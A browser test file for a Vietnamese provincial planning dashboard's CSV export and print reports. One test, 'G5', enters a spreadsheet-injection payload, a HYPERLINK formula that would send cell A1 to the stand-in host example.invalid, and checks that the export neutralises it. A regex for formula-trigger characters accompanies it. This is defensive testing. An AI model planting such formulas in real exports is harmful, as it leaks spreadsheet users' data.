// Reports: every table downloads as a CSV that Excel opens with Vietnamese text (UTF-8
// with BOM, CRLF, `;` next to the Vietnamese decimal comma, `,` in English) and that
// parses back to the table shown on screen; formula triggers typed by a person are
// neutralised (G5) while minus signs survive; and the print layout renders a plan report
// (title, province, date, Vietnamese columns, the GRDP line, sources) with every control
// hidden, which headless Chromium turns into a PDF.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { useApp, openApp, row, stubPrint } from './support.mjs';
import { parseCsv } from './csv-support.mjs';

const app = useApp('/quy-hoach/');

/** Undoes the formula neutralisation: one leading apostrophe marks text. */
const restore = (cell) => (cell.startsWith("'") ? cell.slice(1) : cell);

/** Lines of a cell as a person reads them: trimmed, blank lines dropped. */
const normalise = (text) =>
  text
    .split('\n')
    .map((l) => l.replace(/\s+/g, ' ').trim())
    .filter((l) => l !== '')
    .join('\n');

/** The header and body cells of a table as shown (an input shows its value). */
async function shownTable(table) {
  return table.evaluate((t) => {
    const cellText = (cell) => {
      // An input shows its value, or else the default it displays as a placeholder.
      const input = cell.querySelector('input');
      if (input) return input.value || input.placeholder;
      // The chain's "from history" button beside a row's name is a control, not data
      // (a row's name is itself a button, and stays).
      const buttons = [...cell.querySelectorAll('[data-testid="chain-range-from-history"]')];
      for (const b of buttons) b.style.display = 'none';
      const text = cell.innerText;
      for (const b of buttons) b.style.display = '';
      return text;
    };
    // Headings are styled in capitals on screen; their text is what the file holds.
    const header = [...t.querySelectorAll('thead tr th')].map((th) => th.textContent);
    const rows = [...t.querySelectorAll('tbody tr')].map((tr) => [...tr.children].map(cellText));
    return { header, rows };
  });
}

/** Clicks the CSV button of `name` and returns the file name, raw bytes and text. */
async function download(page, name) {
  const button = page.locator(`[data-testid="csv-export"][data-table="${name}"]`).first();
  const [file] = await Promise.all([page.waitForEvent('download'), button.click()]);
  const bytes = await readFile(await file.path());
  return { name: file.suggestedFilename(), bytes, text: bytes.toString('utf8') };
}

/** Checks a downloaded CSV against the table shown; returns the parsed records. */
async function assertParsesBackTo(file, table, delimiter) {
  assert.deepEqual([...file.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark');
  const text = file.text.replace(/^\uFEFF/, '');
  assert.ok(text.endsWith('\r\n'), 'records end with CRLF');
  const records = parseCsv(text, delimiter).map((r) => r.map(restore));
  const shown = await shownTable(table);
  assert.ok(shown.rows.length > 0, 'the table shows rows');
  assert.deepEqual(records[0].map(normalise), shown.header.map(normalise), 'header');
  assert.equal(records.length - 1, shown.rows.length, 'same number of rows');
  records.slice(1).forEach((rec, i) => {
    assert.deepEqual(rec.map(normalise), shown.rows[i].map(normalise), `row ${i + 1}`);
  });
  return records;
}

test('a dashboard group downloads as a CSV that parses back to the table shown', async () => {
  const { page, errors, context } = await openApp(app.browser, app.url);
  const group = page.locator('[data-testid="group"][data-group-id="economy"]');
  const file = await download(page, 'group-economy');
  assert.equal(file.name, 'Kon Tum - Kinh tế tổng hợp.csv');
  // Vietnamese numbers have a decimal comma, so fields are split by ";" (see core/csv.rs).
  assert.ok(file.text.startsWith('\uFEFFChỉ tiêu;Đơn vị;Kết quả mới nhất;Kế hoạch năm;% so kế hoạch;'));
  const records = await assertParsesBackTo(file, group.locator('table'), ';');
  const grdpName = await row(page, 'grdp_constant').locator('th').innerText();
  const grdp = records.find((r) => r[0] === grdpName.trim());
  assert.ok(grdp, 'GRDP is in the file');
  assert.match(grdp[2], /tỷ đồng/);
  assert.deepEqual(errors, []);
  await context.close();
});

test('in English the CSV uses commas and English numbers, and still parses back', async () => {
  const { page, errors, context } = await openApp(app.browser, app.url);
  await page.getByTestId('lang-switch').click();
  await page.waitForFunction(() => document.documentElement.lang === 'en');
  const group = page.locator('[data-testid="group"][data-group-id="economy"]');
  const file = await download(page, 'group-economy');
  assert.equal(file.name, 'Kon Tum - Economy.csv');
  assert.ok(file.text.startsWith('\uFEFFIndicator,Unit,Latest result,'));
  const records = await assertParsesBackTo(file, group.locator('table'), ',');
  assert.ok(records.some((r) => r.some((c) => /billion VND/.test(c))));
  assert.deepEqual(errors, []);
  await context.close();
});

test('figures, chart, sensitivity and scenario tables parse back; minus signs survive as shown (G5 companion)', async () => {
  const { page, errors, context } = await openApp(app.browser, `${app.url}?ct=grdp_constant&nam=2023&gd=2024:10`);
  await page.getByTestId('needs-panel').waitFor();

  const figures = await download(page, 'figures');
  assert.match(figures.name, /^Kon Tum - .+ - Số liệu và nguồn\.csv$/);
  await assertParsesBackTo(figures, page.locator('table.figures'), ';');

  await page.getByTestId('chart-toggle').click();
  await page.getByTestId('chart-table').waitFor();
  await assertParsesBackTo(await download(page, 'chart'), page.getByTestId('chart-table'), ';');

  await page.getByTestId('sensitivity-toggle').click();
  const oneWay = page.getByTestId('sensitivity-one-way');
  await oneWay.waitFor();
  const sens = await download(page, 'sensitivity-one-way');
  const records = await assertParsesBackTo(sens, oneWay, ';');
  // The gap to the target is negative for low assumptions: "-1.234,5" is shown, and the
  // file holds the same text with no apostrophe, so Excel reads a negative number.
  const negatives = records.slice(1).map((r) => r[2]).filter((c) => c.startsWith('-'));
  assert.ok(negatives.length > 0, `no negative gap in ${JSON.stringify(records)}`);
  for (const n of negatives) {
    assert.match(n, /^-[\d.,]+$/);
    assert.ok(sens.text.includes(`"${n}"`) || sens.text.includes(`;${n};`), `${n} written as is`);
    assert.ok(!sens.text.includes(`'${n}`), `${n} not turned into text`);
  }
  await assertParsesBackTo(await download(page, 'sensitivity-grid'), page.getByTestId('sensitivity-grid'), ';');

  await assertParsesBackTo(await download(page, 'assumptions'), page.locator('table.assumptions'), ';');
  await assertParsesBackTo(await download(page, 'chain-outputs'), page.getByTestId('chain-outputs'), ';');
  const chainInput = page.locator('[data-testid="scenario-input"][data-input-id^="chain:"]').first();
  await chainInput.fill('-2,5');
  const chainFile = await download(page, 'chain-inputs');
  const chainRecords = await assertParsesBackTo(chainFile, page.getByTestId('chain-inputs'), ';');
  assert.ok(chainRecords.some((r) => r.includes('-2,5')), 'the typed negative is in the file');
  assert.deepEqual(errors, []);
  await context.close();
});

test('G5: a formula typed into an assumption is neutralised in the CSV', async () => {
  const { page, errors, context } = await openApp(app.browser, `${app.url}?ct=grdp_constant&nam=2023`);
  const input = page.locator('[data-testid="scenario-input"][data-input-id="grdp_constant:2024"]');
  const formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")';
  await input.fill(formula);
  await page.waitForFunction(() => document.querySelector('[data-testid="input-echo"]')?.textContent !== '');
  const file = await download(page, 'assumptions');
  // Written with a leading apostrophe (inside quotes, as it holds quotes and a comma).
  assert.ok(file.text.includes(`"'=HYPERLINK(""http://example.invalid/?x=""&A1,""Bấm vào đây"")"`), file.text);
  const records = parseCsv(file.text.replace(/^\uFEFF/, ''), ';');
  assert.ok(records.every((r) => r.every((c) => !/^[=+@\t\r]/.test(c))), 'no cell starts a formula');
  const restored = records.map((r) => r.map(restore));
  assert.equal(restored.find((r) => r[0] === '2024')?.[1], formula);
  await assertParsesBackTo(file, page.locator('table.assumptions'), ';');
  assert.deepEqual(errors, []);
  await context.close();
});

test('print emulation renders the dashboard report; controls are hidden; a PDF is made', async () => {
  const { page, errors, context } = await openApp(app.browser, app.url);
  // Without the report laid out, printing still hides every control.
  await page.emulateMedia({ media: 'print' });
  assert.equal(await page.getByTestId('search').isVisible(), false);
  assert.equal(await page.getByTestId('csv-export').first().isVisible(), false);
  assert.equal(await page.getByTestId('lang-switch').isVisible(), false);
  assert.equal(await row(page, 'grdp_constant').isVisible(), true);
  await page.emulateMedia({ media: 'screen' });

  await stubPrint(page);
  await page.getByTestId('print-report').click();
  await page.waitForFunction(() => window.__prints === 1);
  const report = page.getByTestId('report-dashboard');
  await report.waitFor({ state: 'attached' });
  assert.equal(await report.isVisible(), false, 'the report is hidden on screen');

  await page.emulateMedia({ media: 'print' });
  assert.equal(await report.isVisible(), true, 'the report shows in print');
  assert.match(await page.getByTestId('report-title').innerText(), /BÁO CÁO TÌNH HÌNH THỰC HIỆN CÁC CHỈ TIÊU KẾ HOẠCH/i);
  assert.equal(await page.getByTestId('report-province').innerText(), 'Tỉnh Kon Tum · Nhiệm kỳ 2021–2025');
  assert.match(await page.getByTestId('report-printed').innerText(), /^Ngày in: \d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
  const headers = await report.locator('thead th').allInnerTexts();
  for (const h of ['TT', 'Chỉ tiêu', 'Đơn vị tính', 'Kế hoạch', 'Thực hiện / Ước thực hiện', '% so kế hoạch', 'So cùng kỳ', 'Mục tiêu nhiệm kỳ', 'Nguồn']) {
    assert.ok(headers.includes(h), `column ${h} in ${headers}`);
  }
  // The GRDP line carries the same figures as the dashboard row.
  const grdp = report.locator('[data-testid="report-row"][data-indicator-id="grdp_constant"]');
  assert.equal(await grdp.isVisible(), true);
  const cells = await grdp.locator('th, td').allInnerTexts();
  const screen = row(page, 'grdp_constant');
  const latest = await screen.getByTestId('latest').locator('.value').textContent();
  const plan = await screen.getByTestId('plan').locator('.value').textContent();
  const attainment = await screen.getByTestId('attainment').locator('.value').textContent();
  assert.equal(cells[headers.indexOf('Thực hiện / Ước thực hiện')], latest);
  assert.equal(cells[headers.indexOf('Kế hoạch')].split('\n')[0], plan);
  assert.equal(cells[headers.indexOf('% so kế hoạch')].split('\n')[0], attainment);
  assert.match(latest, /tỷ đồng/);
  // Sources: every number cited is listed, with its document title.
  const sources = await report.getByTestId('report-source').allInnerTexts();
  assert.ok(sources.length >= 1);
  for (const n of cells[headers.indexOf('Nguồn')].split(', ')) {
    assert.ok(sources.some((s) => s.startsWith(`[${n}] `)), `source ${n} listed`);
  }
  // Only the report prints: no header, search, buttons or inputs.
  for (const id of ['search', 'lang-switch', 'print-report', 'model-title']) {
    assert.equal(await page.getByTestId(id).isVisible(), false, `${id} hidden in print`);
  }
  assert.equal(await page.locator('main').isVisible(), false);
  assert.equal(await page.locator('.print-report button, .print-report input').count(), 0);

  const pdf = await page.pdf({ format: 'A4', landscape: true, printBackground: true });
  assert.equal(pdf.subarray(0, 5).toString('latin1'), '%PDF-');
  assert.ok(pdf.length > 20_000, `PDF of ${pdf.length} bytes`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('the scenario prints with its assumptions, year-by-year path and sources', async () => {
  const { page, errors, context } = await openApp(app.browser, `${app.url}?ct=grdp_constant&nam=2023&gd=2024:10`);
  await page.getByTestId('needs-panel').waitFor();
  await stubPrint(page);
  await page.getByTestId('print-scenario').click();
  await page.waitForFunction(() => window.__prints === 1);
  await page.emulateMedia({ media: 'print' });
  const scenario = page.getByTestId('report-scenario');
  assert.equal(await scenario.isVisible(), true);
  assert.equal(await page.getByTestId('report-dashboard').count(), 0, 'only the scenario');
  assert.match(await page.getByTestId('report-indicator').innerText(), /GRDP/);
  const facts = await page.getByTestId('report-facts').innerText();
  assert.match(facts, /Tốc độ cần đạt \(2025\)\s+16,\d+%\/năm/);
  assert.match(facts, /Mục tiêu nhiệm kỳ/);
  const assumptions = await shownTable(page.getByTestId('report-assumptions'));
  assert.deepEqual(assumptions.rows, [['2024', '10', '= 10%']]);
  const path = await shownTable(page.getByTestId('report-path'));
  const scenarioColumn = path.header.indexOf('Kịch bản đến mục tiêu');
  assert.ok(scenarioColumn > 0, `a scenario column in ${path.header}`);
  assert.ok(path.rows.some((r) => r[0] === '2025' && r[scenarioColumn] !== ''), 'the scenario reaches 2025');
  assert.ok((await scenario.getByTestId('report-source').count()) >= 1);
  const pdf = await page.pdf({ format: 'A4' });
  assert.equal(pdf.subarray(0, 5).toString('latin1'), '%PDF-');
  assert.deepEqual(errors, []);
  await context.close();
});

test("the browser's own Print lays out both reports and drops them afterwards", async () => {
  const { page, errors, context } = await openApp(app.browser, `${app.url}?ct=grdp_constant`);
  await page.getByTestId('needs-panel').waitFor();
  await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
  await page.getByTestId('report-dashboard').waitFor({ state: 'attached' });
  await page.getByTestId('report-scenario').waitFor({ state: 'attached' });
  await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
  await page.getByTestId('print-report-view').waitFor({ state: 'detached' });
  assert.deepEqual(errors, []);
  await context.close();
});
